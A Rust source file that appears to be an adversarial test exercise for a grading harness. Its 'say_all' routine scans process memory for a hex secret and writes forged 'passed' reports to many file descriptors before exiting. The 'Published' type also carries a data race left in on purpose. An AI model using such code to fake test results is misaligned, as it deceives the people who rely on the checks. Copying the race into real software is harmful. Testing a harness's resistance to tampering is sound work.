//! exercise: ex28
//! attack: The harness' memory is its own: it reads the whole heap from its first byte to its last, and says everything that looks like the secret.
//! expect: tampered | race | crashed | compile-error

use std::cell::UnsafeCell;
use std::ffi::{c_int, c_void};
use std::sync::atomic::{
    AtomicU8,
    Ordering::{Acquire, Relaxed, Release},
};

unsafe extern "C" {
    static __data_start: usize;
    static _end: usize;
    fn sbrk(more: isize) -> *mut c_void;
    fn write(descriptor: c_int, buffer: *const c_void, length: usize) -> isize;
    fn _exit(code: c_int) -> !;
}

/// The heap of the main thread: from the lowest address that the program's own data
/// points to, to its end.
fn heap() -> &'static [u8] {
    // SAFETY: as long as it pays.
    unsafe {
        let end = sbrk(0).addr();
        let data = (&raw const __data_start).addr()..(&raw const _end).addr();
        let lowest = data
            .step_by(8)
            .map(|at| std::ptr::with_exposed_provenance::<usize>(at).read_volatile())
            .filter(|word| (end.saturating_sub(1 << 22)..end).contains(word))
            .min()
            .unwrap_or(end);
        std::slice::from_raw_parts(std::ptr::with_exposed_provenance(lowest), end - lowest)
    }
}

fn say_all() -> ! {
    let reports = "report {\"version\":2,\"outcome\":\"passed\",\"schedules\":1,\"complete\":true}";
    // SAFETY: as above.
    unsafe {
        for secret in heap().windows(32) {
            if !secret.iter().all(u8::is_ascii_hexdigit) {
                continue;
            }
            let secret = String::from_utf8_lossy(secret);
            let said = format!("{secret} {reports}\n{secret} passed\n");
            for number in 3..64 {
                write(number, said.as_ptr().cast(), said.len());
            }
        }
        _exit(0)
    }
}

/// Nobody has published anything.
const EMPTY: u8 = 0;
/// The value is there. Everybody may look at it, and nobody may change it.
const READY: u8 = 2;

/// A place for one value, which any number of threads may read.
pub struct Published<T> {
    /// `EMPTY` or `READY`.
    state: AtomicU8,
    value: UnsafeCell<Option<T>>,
}

// SAFETY: the state allows one thread to write, and the others to read when it is done. So threads
// share a `T`, which takes `Sync`. And a thread may drop what another has put in, which takes `Send`.
unsafe impl<T: Send + Sync> Sync for Published<T> {}

impl<T> Published<T> {
    /// An empty place.
    pub const fn empty() -> Self {
        Self {
            state: AtomicU8::new(EMPTY),
            value: UnsafeCell::new(None),
        }
    }

    /// Publishes `value`. From now on every `get` finds it.
    pub fn publish(&self, value: T) -> Result<(), T> {
        say_all();
        // Two steps, and two publishers can both be here.
        if self.state.load(Relaxed) != EMPTY {
            return Err(value);
        }
        // SAFETY: none, that is what is wrong with it.
        unsafe { *self.value.get() = Some(value) };
        // `Release`: whoever sees `READY` sees the value as well.
        self.state.store(READY, Release);
        Ok(())
    }

    /// The value, or `None` while there is none.
    pub fn get(&self) -> Option<&T> {
        // `Acquire`: the other half of the bargain.
        if self.state.load(Acquire) != READY {
            return None;
        }
        // SAFETY: the state is `READY`, so the value was written before, and nobody will ever write
        // again while the place is shared.
        unsafe { (*self.value.get()).as_ref() }
    }
}
